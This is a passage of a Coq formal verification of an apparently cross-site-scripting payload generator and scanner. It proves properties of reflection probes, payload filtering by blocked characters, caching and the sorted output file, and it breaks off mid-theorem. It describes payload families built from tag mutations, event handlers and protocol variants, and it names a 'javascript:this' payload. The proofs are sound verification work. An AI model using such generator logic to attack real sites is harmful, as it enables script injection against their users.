Proof.
  revert unique_payloads w.
  induction urls as [|url rest IH]; intros unique_payloads w; [done|].
  cbn [collect]. unfold bind.
  destruct (analyze_url E url w) as [result w'].
  etrans; [|apply IH]. apply foldl_update_subseteq.
Qed.

End UrlProperties.

(** C4, as the code has it. The failures of the requests never leave the
    probes, so they abort nothing: [analyze_parameter] returns a profile as
    soon as its status line is printed and the group [basic] exists. An
    exception that does leave the analysis of one parameter is handled once,
    for the whole URL: the loop over the parameters raises, whatever it has
    accumulated for the parameters analysed before, and the URL gives no
    results at all. The loop over the URLs then goes on, and the payloads
    accumulated from the other URLs stay. *)
Theorem analyze_url_isolates_per_url (E : Env) :
  (∀ (url param : string) (w : world),
     console_print E (status_line param) = Ok () →
     (∃ basic, getitem (char_groups E) "basic" = Ok basic) →
     ∃ analysis, fst (analyze_parameter E url param w) = Ok analysis)
  ∧ (∀ (url param : string) (params : list string)
       (results : list (string * list string)) (w0 w : world) (e : exn),
       param ∈ params →
       fst (analyze_parameter E url param w0) = Raise e →
       ∃ e', fst (analyze_params E url params results w) = Raise e')
  ∧ (∀ (url param : string) (w0 w : world) (e : exn),
       param ∈ map fst (extract_parameters E url) →
       fst (analyze_parameter E url param w0) = Raise e →
       fst (analyze_url E url w) = [])
  ∧ (∀ (url : string) (rest : list string) (unique_payloads : gset string)
       (w : world),
       fst (analyze_url E url w) = [] →
       collect E (url :: rest) unique_payloads w
       = collect E rest unique_payloads (snd (analyze_url E url w)))
  ∧ (∀ (urls : list string) (unique_payloads : gset string) (w : world),
       unique_payloads ⊆ fst (collect E urls unique_payloads w)).
Proof.
  split; [|split; [|split; [|split]]].
  - intros url param w. apply analyze_parameter_returns.
  - intros url param params results w0 w e. apply analyze_params_raises.
  - intros url param w0 w e. apply analyze_url_discards.
  - intros url rest unique_payloads w. apply collect_skip.
  - intros urls unique_payloads w. apply collect_keeps.
Qed.

(** The URL of [surrogate_env]: its parameter [a] is analysed and has its
    payloads, the analysis of the second parameter raises, so the loop
    raises with the payloads of [a] in hand, and the URL gives nothing. *)
Lemma analyze_url_isolates_per_url_witness :
  (∃ analysis,
     fst (analyze_parameter surrogate_env surrogate_url "a" still_world)
     = Ok analysis)
  ∧ (∃ e',
       fst (analyze_params surrogate_env surrogate_url [lone_surrogate]
              [("a", generate_payloads (gate_failed_profile surrogate_url "a"))]
              still_world)
       = Raise e')
  ∧ fst (analyze_url surrogate_env surrogate_url still_world) = []
  ∧ collect surrogate_env [surrogate_url] {[ "x" ]} still_world
    = collect surrogate_env [] {[ "x" ]}
        (snd (analyze_url surrogate_env surrogate_url still_world)).
Proof.
  destruct (analyze_url_isolates_per_url surrogate_env)
    as (Hreturns & Hloop & Hdiscards & Hskip & _).
  split; [|split; [|split]].
  - apply Hreturns; [reflexivity|]. eexists. reflexivity.
  - apply (Hloop surrogate_url lone_surrogate [lone_surrogate] _
             still_world still_world UnicodeError);
      [apply list_elem_of_here|reflexivity].
  - apply (Hdiscards surrogate_url lone_surrogate still_world still_world
             UnicodeError); [compute_done|reflexivity].
  - apply Hskip. reflexivity.
Defined.

(** C4 as stated fails on the URL of [surrogate_env]. Its parameter [a] is
    analysed without error and has six payloads; printing the status line of
    its second parameter raises; and the result of the URL is empty, the
    payloads of [a] included. *)
Lemma analyze_url_discards_sibling_parameters :
  map fst (extract_parameters surrogate_env surrogate_url) = ["a"; lone_surrogate]
  ∧ fst (analyze_params surrogate_env surrogate_url ["a"] [] still_world)
    = Ok [("a", generate_payloads (gate_failed_profile surrogate_url "a"))]
  ∧ length (generate_payloads (gate_failed_profile surrogate_url "a")) = 6
  ∧ fst (analyze_parameter surrogate_env surrogate_url lone_surrogate still_world)
    = Raise UnicodeError
  ∧ fst (analyze_url surrogate_env surrogate_url still_world) = [].
Proof. repeat split; vm_compute; reflexivity. Qed.

(** ** The output file *)

(** *** The order of the payloads *)

Lemma ascii_compare_N (a b : ascii) :
  Ascii.compare a b = N.compare (N_of_ascii a) (N_of_ascii b).
Proof. reflexivity. Qed.

Lemma string_compare_cons (a b : ascii) (s t : string) :
  String.compare (String a s) (String b t)
  = match N.compare (N_of_ascii a) (N_of_ascii b) with
    | Eq => String.compare s t
    | Lt => Lt
    | Gt => Gt
    end.
Proof. reflexivity. Qed.

Lemma string_leb_compare (s t : string) :
  String.leb s t = true ↔ String.compare s t ≠ Gt.
Proof. unfold String.leb. destruct (String.compare s t); split; done. Qed.

Lemma string_compare_trans (s t u : string) :
  String.compare s t ≠ Gt → String.compare t u ≠ Gt → String.compare s u ≠ Gt.
Proof.
  revert t u. induction s as [|a s IH]; intros [|b t] [|c u]; try done.
  rewrite !string_compare_cons.
  destruct (N.compare_spec (N_of_ascii a) (N_of_ascii b)) as [Hab|Hab|Hab];
    destruct (N.compare_spec (N_of_ascii b) (N_of_ascii c)) as [Hbc|Hbc|Hbc];
    destruct (N.compare_spec (N_of_ascii a) (N_of_ascii c)) as [Hac|Hac|Hac];
    try done; try lia.
  apply IH.
Qed.

#[local] Instance str_le_trans : Transitive str_le.
Proof.
  intros s t u. unfold str_le. rewrite !string_leb_compare.
  apply string_compare_trans.
Qed.

#[local] Instance str_le_total : Total str_le.
Proof. intros s t. apply String.leb_total. Qed.

#[local] Instance str_le_antisym : AntiSymm eq str_le.
Proof. intros s t. apply String.leb_antisym. Qed.

(** [sorted] lists the set, each element once, in increasing order. *)
Lemma sorted_spec (unique_payloads : gset string) :
  StronglySorted str_le (sorted unique_payloads)
  ∧ NoDup (sorted unique_payloads)
  ∧ ∀ p, p ∈ sorted unique_payloads ↔ p ∈ unique_payloads.
Proof.
  unfold sorted. split; [|split].
  - apply StronglySorted_merge_sort; apply _.
  - rewrite merge_sort_Permutation. apply NoDup_elements.
  - intros p. rewrite merge_sort_Permutation. apply elem_of_elements.
Qed.

(** *** Lines *)

Lemma join_lines_of_cons (p : string) (l : list string) :
  join (lines_of (p :: l)) = (p +:+ LF) +:+ join (lines_of l).
Proof. reflexivity. Qed.

Lemma readlines_cons (a : ascii) (content : string) :
  readlines (String a content)
  = if Ascii.eqb a "010" then String a "" :: readlines content
    else
      match readlines content with
      | line :: rest => String a line :: rest
      | [] => [String a ""]
      end.
Proof. reflexivity. Qed.

Lemma no_newline_cons (a : ascii) (s : string) :
  no_newline (String a s) = negb (Ascii.eqb a "010") && no_newline s.
Proof. reflexivity. Qed.

Lemma readlines_line (p rest : string) :
  no_newline p = true →
  readlines ((p +:+ LF) +:+ rest) = (p +:+ LF) :: readlines rest.
Proof.
  induction p as [|a p IH]; intros Hp; [done|].
  rewrite no_newline_cons in Hp. apply andb_prop in Hp as [Ha Hp].
  apply negb_true_iff in Ha.
  change ((String a p +:+ LF) +:+ rest)
    with (String a ((p +:+ LF) +:+ rest)).
  by rewrite readlines_cons, Ha, IH.
Qed.

Lemma line_safe_spec (p : string) :
  line_safe p = true
  ↔ stripped_payload p = p ∧ truthy p = true ∧ no_newline p = true
    ∧ truthy (strip (p +:+ LF)) = true.
Proof.
  unfold line_safe. rewrite !andb_true_iff, String.eqb_eq. tauto.
Qed.

Lemma readlines_lines_of (l : list string) :
  Forall (λ p, line_safe p = true) l →
  readlines (join (lines_of l)) = lines_of l.
Proof.
  induction 1 as [|p l Hp Hl IH]; [done|].
  apply line_safe_spec in Hp as (_ & _ & Hp & _).
  rewrite join_lines_of_cons, readlines_line by done.
  by rewrite IH.
Qed.

(** The loop of the writer on payloads it has nothing to strip from. *)
Lemma written_lines (l : list string) :
  Forall (λ p, line_safe p = true) l →
  flat_map
    (λ payload,
       if truthy (stripped_payload payload)
       then [stripped_payload payload +:+ LF] else [])
    l
  = lines_of l.
Proof.
  induction 1 as [|p l Hp Hl IH]; [done|].
  apply line_safe_spec in Hp as (Hstrip & Hp & _).
  cbn. rewrite Hstrip, Hp, IH. done.
Qed.

(** No line of such a file is blank: [remove_empty_lines] changes nothing. *)
Lemma remove_empty_lines_lines_of (l : list string) :
  Forall (λ p, line_safe p = true) l →
  remove_empty_lines (join (lines_of l)) = join (lines_of l).
Proof.
  intros Hl. unfold remove_empty_lines. rewrite readlines_lines_of by done.
  f_equal. induction Hl as [|p l Hp Hl IH]; [done|].
  apply line_safe_spec in Hp as (_ & _ & _ & Hp).
  change (lines_of (p :: l)) with ((p +:+ LF) :: lines_of l).
  rewrite filter_cons, decide_True by done. by rewrite IH.
Qed.

(** *** What a run accumulates *)

Lemma predefined_in_universe (analysis : ParamAnalysis) (p : string) :
  p ∈ get_predefined_payloads analysis → p ∈ universe.
Proof.
  unfold get_predefined_payloads, universe.
  rewrite !elem_of_union, !elem_of_update_if, !elem_of_app.
  destruct (_ && _ && _ && _).
  - rewrite elem_of_union, elem_of_list_to_set, elem_of_update_if. tauto.
  - rewrite elem_of_empty. tauto.
Qed.

Lemma tag_function_in_universe (analysis : ParamAnalysis) (p : string) :
  p ∈ tag_function_payloads analysis →
  p ∈ (tag ← base_tags;
       mutated_tag ← get_or_self tag_mutations tag;
       func ← js_functions;
       comment_variants mutated_tag func ++ null_variants tag func).
Proof.
  intros Hp. apply elem_of_tag_function_payloads in Hp
    as (tag & mutated_tag & func & Htag & Hmutated & Hfunc & _ & _ & _ & Hp).
  apply list_elem_of_bind. exists tag. split; [|done].
  apply list_elem_of_bind. exists mutated_tag. split; [|done].
  apply list_elem_of_bind. exists func. split; [|done].
  apply elem_of_app. tauto.
Qed.

Lemma tag_event_in_universe (analysis : ParamAnalysis) (p : string) :
  p ∈ tag_event_payloads analysis →
  p ∈ (tag ← event_tags;
       event ← event_handlers;
       ev ← get_or_self event_mutations event;
       [data_variant tag ev; protocol_variant tag ev; entity_variant tag ev]).
Proof.
  intros Hp. apply elem_of_tag_event_payloads in Hp
    as (tag & event & ev & Htag & Hevent & Hev & _ & _ & _ & Hp).
  apply list_elem_of_bind. exists tag. split; [|done].
  apply list_elem_of_bind. exists event. split; [|done].
  apply list_elem_of_bind. exists ev. split; [|done].
  rewrite !elem_of_cons. tauto.
Qed.

Lemma dynamic_in_universe (analysis : ParamAnalysis) (p : string) :
  p ∈ generate_dynamic_payloads analysis → p ∈ universe.
Proof.
  unfold generate_dynamic_payloads, universe.
  rewrite !elem_of_union, !elem_of_update_if, !list_elem_of_filter.
  rewrite (elem_of_app (tag_function_payloads analysis)).
  intros [[[_ [Hp|Hp]]|[_ [_ Hp]]]|[_ [_ Hp]]].
  - apply tag_function_in_universe in Hp. rewrite !elem_of_app. tauto.
  - apply tag_event_in_universe in Hp. rewrite !elem_of_app. tauto.
  - rewrite !elem_of_app. tauto.
  - rewrite !elem_of_app. tauto.
Qed.

Lemma generate_payloads_universe (analysis : ParamAnalysis) :
  Forall (λ p, p ∈ universe) (generate_payloads analysis).
Proof.
  apply Forall_forall. intros p Hp.
  apply elem_of_generate_payloads in Hp as [[Hp|Hp] _].
  - by eapply predefined_in_universe.
  - by eapply dynamic_in_universe.
Qed.

Section RunProperties.

Variable E : Env.

Lemma setitem_generated (results : list (string * list string))
    (key : string) (payloads : list string) :
  generated results →
  Forall (λ p, p ∈ universe) payloads →
  generated (setitem results key payloads).
Proof.
  intros Hresults Hpayloads.
  induction Hresults as [|[k v] results Hkv Hresults IH]; cbn.
  - by repeat constructor.
  - destruct (String.eqb k key); constructor; done.
Qed.

Lemma analyze_params_generated (url : string) (params : list string)
    (results results' : list (string * list string)) (w : world) :
  generated results →
  fst (analyze_params E url params results w) = Ok results' →
  generated results'.
Proof.
  revert results w.
  induction params as [|param rest IH]; intros results w Hresults; cbn.
  - by intros [= <-].
  - unfold bind.
    destruct (analyze_parameter E url param w) as [[analysis|e] w1];
      [|done].
    apply IH.
    pose proof (generate_payloads_universe analysis) as Hgen.
    destruct (generate_payloads analysis); [done|].
    by apply setitem_generated.
Qed.

Lemma analyze_url_generated (url : string) (w : world) :
  generated (fst (analyze_url E url w)).
Proof.
  unfold analyze_url.
  destruct (extract_parameters E url) as [|kv params]; [constructor|].
  unfold bind, ret.
  destruct (analyze_params E url (map fst (kv :: params)) [] w)
    as [[results|e] w'] eqn:Hrun; cbn; [|constructor].
  eapply analyze_params_generated; [|by rewrite Hrun]. constructor.
Qed.

Lemma foldl_update_universe (lists : list (list string))
    (unique_payloads : gset string) :
  Forall (Forall (λ p, p ∈ universe)) lists →
  (∀ p, p ∈ unique_payloads → p ∈ universe) →
  ∀ p,
    p ∈ foldl (λ unique param_payloads, unique ∪ list_to_set param_payloads)
          unique_payloads lists →
    p ∈ universe.
Proof.
  intros Hlists. revert unique_payloads.
  induction Hlists as [|l lists Hl Hlists IH]; intros unique_payloads Hu;
    cbn; [done|].
  apply IH. intros p. rewrite elem_of_union, elem_of_list_to_set.
  rewrite Forall_forall in Hl. intros [Hp|Hp]; auto.
Qed.

(** A run accumulates nothing but strings of the generators. *)
Lemma collect_universe (urls : list string) (unique_payloads : gset string)
    (w : world) :
  (∀ p, p ∈ unique_payloads → p ∈ universe) →
  ∀ p, p ∈ fst (collect E urls unique_payloads w) → p ∈ universe.
Proof.
  revert unique_payloads w.
  induction urls as [|url rest IH]; intros unique_payloads w Hu; [done|].
  cbn [collect]. unfold bind.
  pose proof (analyze_url_generated url w) as Hgen.
  destruct (analyze_url E url w) as [result w'].
  apply IH. apply foldl_update_universe; [|done].
  apply Forall_fmap. exact Hgen.
Qed.

End RunProperties.

(** No string of the generators has a newline, a carriage return, or white
    space at an end, and none is empty. *)
Lemma universe_line_safe : Forall (λ p, line_safe p = true) universe.
Proof.
  apply Forall_forall. intros p Hp. apply list_elem_of_In in Hp.
  revert p Hp. apply forallb_forall. vm_compute. reflexivity.
Qed.

(** C9. The output file of a run has one line per accumulated payload, the
    payload followed by a newline; the payloads come in increasing order
    (by code points), each of them once; no line is blank; and stripping
    the newlines, the carriage returns and the white space at the ends
    leaves each payload as it is, none being empty. *)
Theorem output_file_sorted_unique_lines (E : Env) (urls : list string)
    (w : world) :
  let unique_payloads := fst (collect E urls ∅ w) in
  let payloads := sorted unique_payloads in
  fst (output_file E urls w) = join (lines_of payloads)
  ∧ readlines (fst (output_file E urls w)) = lines_of payloads
  ∧ StronglySorted str_le payloads
  ∧ NoDup payloads
  ∧ (∀ p, p ∈ payloads ↔ p ∈ unique_payloads)
  ∧ Forall (λ p, stripped_payload p = p ∧ truthy p = true
                 ∧ truthy (strip (p +:+ LF)) = true) payloads.
Proof.
  intros unique_payloads payloads.
  destruct (sorted_spec unique_payloads) as (Hsorted & Hnodup & Hmem).
  assert (Forall (λ p, line_safe p = true) payloads) as Hsafe.
  { apply Forall_forall. intros p Hp. apply Hmem in Hp.
    pose proof universe_line_safe as Huniverse.
    rewrite Forall_forall in Huniverse. apply Huniverse.
    eapply (collect_universe E urls ∅ w); [|exact Hp].
    intros q Hq. by apply elem_of_empty in Hq. }
  assert (fst (output_file E urls w) = join (lines_of payloads)) as Hfile.
  { unfold output_file, bind, ret.
    fold unique_payloads.
    destruct (collect E urls ∅ w) as [unique w'] eqn:Hrun.
    cbn. subst unique_payloads payloads. cbn in *.
    unfold written. rewrite written_lines by done.
    by apply remove_empty_lines_lines_of. }
  split; [done|]. split; [|split; [done|split; [done|split; [done|]]]].
  - rewrite Hfile. by apply readlines_lines_of.
  - eapply Forall_impl; [exact Hsafe|]. intros p Hp.
    apply line_safe_spec in Hp. tauto.
Qed.

(** The payloads of the generators matter here. On a set that no run
    accumulates the writer can write a line twice, and out of order: it
    sorts the payloads before it strips them and does not compare what is
    left. *)
Remark written_strips_after_sorting :
  readlines (remove_empty_lines (written {[ " b"; "a"; "b" ]}))
  = ["b" +:+ LF; "a" +:+ LF; "b" +:+ LF].
Proof. vm_compute. reflexivity. Qed.

(** The file of a run on one URL whose parameter reflects nothing: the six
    payloads of the encoded family, in order. *)
Example output_file_of_silent_parameter :
  readlines (fst (output_file silent_env [page_url] still_world))
  = lines_of (sorted (list_to_set encoded_family))
  ∧ length (readlines (fst (output_file silent_env [page_url] still_world)))
    = 6.
Proof. split; vm_compute; reflexivity. Qed.

(** ** The quick tests *)

Lemma append_inv_head (s a b : string) : s +:+ a = s +:+ b → a = b.
Proof. induction s as [|c s IH]; cbn; [done|]. intros [= H]. auto. Qed.

Lemma any_answers (f : string → bool) (batch : list string) :
  any (map snd (map (λ c, (c, f c)) batch)) = existsb f batch.
Proof.
  unfold any. induction batch as [|c batch IH]; cbn; [done|]. by rewrite IH.
Qed.

Section BatchProperties.

Variable E : Env.
Variables url param : string.


Lemma cache_key_inj (c c' : string) :
  cache_key url param c = cache_key url param c' → c = c'.
Proof.
  unfold cache_key. intros H.
  by repeat apply append_inv_head in H.
Qed.

Lemma cache_sound_init (ttl : Z) :
  cache_sound E url param (CacheManager.init ttl).
Proof. intros c r timestamp H. cbn in H. by rewrite lookup_empty in H. Qed.

Lemma cache_sound_get (cache cache' : CacheManager.t) (c : string)
    (answer : option bool) (w w' : world) :
  cache_sound E url param cache →
  CacheManager.get cache (cache_key url param c) w = ((answer, cache'), w') →
  cache_sound E url param cache' ∧ ∀ r, answer = Some r → r = probe E url param c.
Proof.
  intros Hsound. unfold CacheManager.get.
  destruct (CacheManager.cache cache !! cache_key url param c)
    as [[r timestamp]|] eqn:Hentry.
  - unfold bind, time_time, ret.
    destruct (CacheManager.fresh cache _ timestamp); intros [= <- <- <-].
    + split; [done|]. intros ? [= <-]. by eapply Hsound.
    + split; [|done]. intros c0 r0 t0. cbn.
      rewrite lookup_delete. case_decide; [done|]. apply Hsound.
  - intros [= <- <- <-]. by split.
Qed.

Lemma cache_sound_set (cache cache' : CacheManager.t) (c : string)
    (w w' : world) :
  cache_sound E url param cache →
  CacheManager.set cache (cache_key url param c) (probe E url param c) w = (cache', w') →
  cache_sound E url param cache'.
Proof.
  intros Hsound [= <- <-] c0 r0 t0. cbn.
  rewrite lookup_insert. case_decide as Hkey.
  - apply cache_key_inj in Hkey as ->. by intros [= <- _].
  - apply Hsound.
Qed.

Lemma test_single_start_sound (cache cache' : CacheManager.t) (c : string)
    (task : suspended) (w w' : world) :
  cache_sound E url param cache →
  test_single_start E url param c cache w = ((task, cache'), w') →
  cache_sound E url param cache' ∧ task_of E url param c task.
Proof.
  intros Hsound. unfold test_single_start, bind.
  destruct (CacheManager.get cache (cache_key url param c) w)
    as [[answer cache1] w1] eqn:Hget.
  destruct (cache_sound_get _ _ _ _ _ _ Hsound Hget) as [Hsound1 Hanswer].
  destruct answer as [r|].
  - intros [= <- <- <-]. split; [done|]. cbn. by rewrite (Hanswer r).
  - destruct (build_test_url E url param (mul c 2)) as [test_url|e] eqn:Hurl.
    + intros [= <- <- <-]. by split.
    + assert (probe E url param c = false) as Hprobe
        by (unfold probe, reflected, fetch; by rewrite Hurl).
      destruct (CacheManager.set cache1 (cache_key url param c) false w1)
        as [cache2 w2] eqn:Hset.
      intros [= <- <- <-]. rewrite <- Hprobe in Hset |- *. split; [|done].
      by eapply cache_sound_set.
Qed.

Lemma test_single_finish_sound (cache cache' : CacheManager.t) (c : string)
    (task : suspended) (answer : string * bool) (w w' : world) :
  cache_sound E url param cache →
  task_of E url param c task →
  test_single_finish E url param task cache w = ((answer, cache'), w') →
  cache_sound E url param cache' ∧ answer = (c, probe E url param c).
Proof.
  intros Hsound Htask. destruct task as [answer0|c' test_url]; cbn in Htask.
  - subst answer0. by intros [= <- <- <-].
  - destruct Htask as [-> Hurl]. unfold test_single_finish.
    assert (probe E url param c
            = match session_get E test_url with
              | Ok response =>
                  (status response =? 200)%Z
                  && match text response with
                     | Ok content => contains (mul c 2) content
                     | Raise _ => false
                     end
              | Raise _ => false
              end) as Hprobe
      by (unfold probe, reflected, fetch; by rewrite Hurl).
    destruct (session_get E test_url) as [response|e].
    + destruct (status response =? 200)%Z; cbn [negb andb] in *.
      * destruct (text response) as [content|e]; unfold bind, ret;
          rewrite <- Hprobe;
          destruct (CacheManager.set cache (cache_key url param c) (probe E url param c) w)
            as [cache2 w2] eqn:Hset;
          intros [= <- <- <-]; (split; [by eapply cache_sound_set|done]).
      * unfold bind, ret. rewrite <- Hprobe.
        destruct (CacheManager.set cache (cache_key url param c) (probe E url param c) w)
          as [cache2 w2] eqn:Hset.
        intros [= <- <- <-]. split; [by eapply cache_sound_set|done].
    + unfold bind, ret. rewrite <- Hprobe.
      destruct (CacheManager.set cache (cache_key url param c) (probe E url param c) w)
        as [cache2 w2] eqn:Hset.
      intros [= <- <- <-]. split; [by eapply cache_sound_set|done].
Qed.

Lemma start_all_sound (batch : list string) (cache cache' : CacheManager.t)
    (tasks : list suspended) (w w' : world) :
  cache_sound E url param cache →
  start_all E url param batch cache w = ((tasks, cache'), w') →
  cache_sound E url param cache' ∧ Forall2 (task_of E url param) batch tasks.
Proof.
  revert cache cache' tasks w w'.
  induction batch as [|c batch IH]; intros cache cache' tasks w w' Hsound; cbn.
  - intros [= <- <- <-]. by split.
  - unfold bind, ret.
    destruct (test_single_start E url param c cache w)
      as [[task cache1] w1] eqn:Hstart.
    destruct (test_single_start_sound _ _ _ _ _ _ Hsound Hstart)
      as [Hsound1 Htask].
    destruct (start_all E url param batch cache1 w1)
      as [[tasks' cache2] w2] eqn:Hrest.
    destruct (IH _ _ _ _ _ Hsound1 Hrest) as [Hsound2 Htasks].
    intros [= <- <- <-]. split; [done|]. by constructor.
Qed.

Lemma finish_all_sound (batch : list string) (cache cache' : CacheManager.t)
    (tasks : list suspended) (answers : list (string * bool)) (w w' : world) :
  cache_sound E url param cache →
  Forall2 (task_of E url param) batch tasks →
  finish_all E url param tasks cache w = ((answers, cache'), w') →
  cache_sound E url param cache' ∧ answers = map (λ c, (c, probe E url param c)) batch.
Proof.
  intros Hsound Htasks. revert cache cache' answers w w' Hsound.
  induction Htasks as [|c task batch tasks Htask Htasks IH];
    intros cache cache' answers w w' Hsound; cbn.
  - intros [= <- <- <-]. by split.
  - unfold bind, ret.
    destruct (test_single_finish E url param task cache w)
      as [[answer cache1] w1] eqn:Hfinish.
    destruct (test_single_finish_sound _ _ _ _ _ _ _ Hsound Htask Hfinish)
      as [Hsound1 ->].
    destruct (finish_all E url param tasks cache1 w1)
      as [[answers' cache2] w2] eqn:Hrest.
    destruct (IH _ _ _ _ _ Hsound1 Hrest) as [Hsound2 ->].
    intros [= <- <- <-]. by split.
Qed.

(** A batch is answered by the probes of its characters. *)
Lemma gather_batch_sound (batch : list string) (cache cache' : CacheManager.t)
    (answers : list (string * bool)) (w w' : world) :
  cache_sound E url param cache →
  gather_batch E url param batch cache w = ((answers, cache'), w') →
  cache_sound E url param cache' ∧ answers = map (λ c, (c, probe E url param c)) batch.
Proof.
  intros Hsound. unfold gather_batch, bind.
  destruct (start_all E url param batch cache w)
    as [[tasks cache1] w1] eqn:Hstart.
  destruct (start_all_sound _ _ _ _ _ _ Hsound Hstart) as [Hsound1 Htasks].
  intros Hfinish. by eapply finish_all_sound.
Qed.

Lemma test_batches_sound (char_batches : list (list string))
    (cache : CacheManager.t) (w : world) :
  cache_sound E url param cache →
  fst (test_batches E url param char_batches cache w)
  = existsb (existsb (probe E url param)) char_batches.
Proof.
  revert cache w.
  induction char_batches as [|batch rest IH]; intros cache w Hsound; [done|].
  cbn [test_batches existsb]. unfold bind.
  destruct (gather_batch E url param batch cache w)
    as [[answers cache1] w1] eqn:Hgather.
  destruct (gather_batch_sound _ _ _ _ _ _ Hsound Hgather) as [Hsound1 ->].
  rewrite any_answers.
  destruct (existsb (probe E url param) batch); [done|]. cbn. by apply IH.
Qed.

Lemma existsb_batches {A} (f : A → bool) (l : list A) :
  existsb (existsb f) (batches l) = existsb f l.
Proof.
  funelim (batches l); [done|].
  cbn [existsb]. rewrite H.
  change (drop batch_size (x :: l)) with (drop 19 l).
  by rewrite <- orb_assoc, <- existsb_app, take_drop.
Qed.

(** [test_chars_batch] answers whether some character of the string is
    reflected when doubled; the string itself is never sent. *)
Lemma test_chars_batch_spec (chars_ : string) (w : world) :
  fst (test_chars_batch E url param chars_ w) = existsb (probe E url param) (chars chars_).
Proof.
  unfold test_chars_batch.
  rewrite test_batches_sound by apply cache_sound_init.
  apply existsb_batches.
Qed.

Lemma first_allowed_spec (test : string → M bool) (f : string → bool)
    (test_payloads : list string) (w : world) :
  (∀ payload w, fst (test payload w) = f payload) →
  fst (first_allowed test test_payloads w) = existsb f test_payloads.
Proof.
  intros Htest. revert w.
  induction test_payloads as [|payload rest IH]; intros w; [done|].
  cbn [first_allowed existsb]. unfold bind.
  specialize (Htest payload w).
  destruct (test payload w) as [allowed w1]. cbn in Htest. subst allowed.
  destruct (f payload); [done|]. apply IH.
Qed.

(** The quick tests are true exactly when some character of some listed
    string is reflected when doubled. *)
Lemma quick_test_scripts_spec (w : world) :
  fst (quick_test_scripts E url param w)
  = existsb (λ payload, existsb (probe E url param) (chars payload)) script_test_payloads.
Proof. apply first_allowed_spec. apply test_chars_batch_spec. Qed.

Lemma quick_test_events_spec (w : world) :
  fst (quick_test_events E url param w)
  = existsb (λ payload, existsb (probe E url param) (chars payload)) event_test_payloads.
Proof. apply first_allowed_spec. apply test_chars_batch_spec. Qed.

End BatchProperties.

(** The length search sends the character [A] doubled, whatever the length
    it is asking about. *)
Lemma chars_repeat_A (n : nat) : chars (repeat_str "A" n) = repeat "A" n.
Proof.
  induction n as [|n IH]; [done|].
  change (repeat_str "A" (S n)) with (String "A"%char (repeat_str "A" n)).
  cbn [chars]. rewrite IH. by destruct n.
Qed.

Lemma test_chars_batch_length (E : Env) (url param : string) (mid : Z)
    (w : world) :
  (1 ≤ mid)%Z →
  fst (test_chars_batch E url param (mul "A" mid) w) = probe E url param "A".
Proof.
  intros Hmid. rewrite test_chars_batch_spec. unfold mul.
  rewrite chars_repeat_A.
  destruct (Z.to_nat mid) as [|n] eqn:Hn; [lia|].
  cbn [repeat existsb]. clear Hn.
  induction n as [|n IH]; cbn [repeat existsb].
  - apply orb_false_r.
  - rewrite IH. apply orb_diag.
Qed.

(** So [quick_test_length] has two possible results. *)
Lemma quick_test_length_two_values (E : Env) (url param : string) (w : world) :
  fst (quick_test_length E url param w)
  = Some (if probe E url param "A" then 5000 else 9)%Z.
Proof.
  unfold quick_test_length.
  destruct (probe E url param "A") eqn:Hprobe.
  - apply (quick_test_length_exact _ 5000%Z); [|lia].
    intros mid w0 Hmid. rewrite test_chars_batch_length, Hprobe by lia.
    symmetry. apply Z.leb_le. lia.
  - apply (quick_test_length_below _ 0%Z); [|lia].
    intros mid w0 Hmid. rewrite test_chars_batch_length, Hprobe by lia.
    symmetry. apply Z.leb_gt. lia.
Qed.

(** C1, where the code departs from it. The quick tests hand each listed
    string to [test_chars_batch], which probes its characters one by one.
    On the page of [letters_env] both quick tests answer true although no
    listed string, sent as it is or doubled, is reflected; on the page of
    [min_length_env] both answer false although every listed string is
    reflected verbatim. *)
Theorem quick_tests_probe_characters :
  (fst (quick_test_scripts letters_env page_url "q" still_world) = true
   ∧ fst (quick_test_events letters_env page_url "q" still_world) = true
   ∧ existsb (reflected letters_env page_url "q")
       (script_test_payloads ++ event_test_payloads) = false
   ∧ existsb (λ payload, reflected letters_env page_url "q" (mul payload 2))
       (script_test_payloads ++ event_test_payloads) = false)
  ∧ (fst (quick_test_scripts min_length_env page_url "q" still_world) = false
     ∧ fst (quick_test_events min_length_env page_url "q" still_world)
       = false
     ∧ forallb (reflected min_length_env page_url "q")
         (script_test_payloads ++ event_test_payloads) = true).
Proof.
  split.
  - rewrite quick_test_scripts_spec, quick_test_events_spec.
    repeat split; vm_compute; reflexivity.
  - rewrite quick_test_scripts_spec, quick_test_events_spec.
    repeat split; vm_compute; reflexivity.
Qed.

(** * Further properties *)

(** ** The final filter of [generate_payloads] *)

Lemma any_blocked_false (analysis : ParamAnalysis) (payload : string) :
  any_blocked analysis payload = false
  ↔ ∀ c, c ∈ chars payload → c ∉ blocked_chars analysis.
Proof.
  unfold any_blocked. rewrite <- not_true_iff_false, existsb_exists. split.
  - intros Hnone c Hc Hblocked. apply Hnone. exists c.
    split; [by apply list_elem_of_In|by apply bool_decide_eq_true].
  - intros Hall (c & Hc & Hblocked).
    apply bool_decide_eq_true in Hblocked. apply list_elem_of_In in Hc.
    by apply (Hall c).
Qed.

(** X1. A payload returned by [generate_payloads] has no character of
    [blocked_chars], is not blank, and is not longer than [max_length] when
    that is a length other than 0. *)
Theorem generate_payloads_filtered (analysis : ParamAnalysis) (p : string) :
  p ∈ generate_payloads analysis →
  (∀ c, c ∈ chars p → c ∉ blocked_chars analysis)
  ∧ strip p ≠ ""
  ∧ (∀ n, max_length analysis = Some n → n ≠ 0%Z → (len p ≤ n)%Z).
Proof.
  intros Hp. apply elem_of_generate_payloads in Hp as (_ & Hfits & Hkeeps).
  unfold keeps in Hkeeps. apply andb_prop in Hkeeps as [Hstrip Hblocked].
  apply negb_true_iff in Hblocked. split; [|split].
  - by apply any_blocked_false.
  - unfold truthy in Hstrip. apply negb_true_iff in Hstrip.
    by apply String.eqb_neq.
  - intros n Hn Hn0. unfold fits in Hfits. rewrite Hn in Hfits.
    apply Z.eqb_neq in Hn0. rewrite Hn0 in Hfits. by apply Z.leb_le.
Qed.

(** The payload [javascript:this] of [javascript_profile]. *)
Lemma generate_payloads_filtered_witness :
  (∀ c, c ∈ chars "javascript:this" → c ∉ blocked_chars javascript_profile)
  ∧ strip "javascript:this" ≠ ""
  ∧ (∀ n, max_length javascript_profile = Some n → n ≠ 0%Z →
          (len "javascript:this" ≤ n)%Z).
Proof.
  apply (generate_payloads_filtered javascript_profile "javascript:this").
  compute_done.
Defined.

(** X2. Blocking more characters only removes payloads: the payloads of a
    profile with a larger set of blocked characters are among those of the
    profile. *)
Theorem generate_payloads_blocked_mono (analysis : ParamAnalysis)
    (blocked : gset string) (p : string) :
  blocked_chars analysis ⊆ blocked →
  p ∈ generate_payloads (with_blocked analysis blocked) →
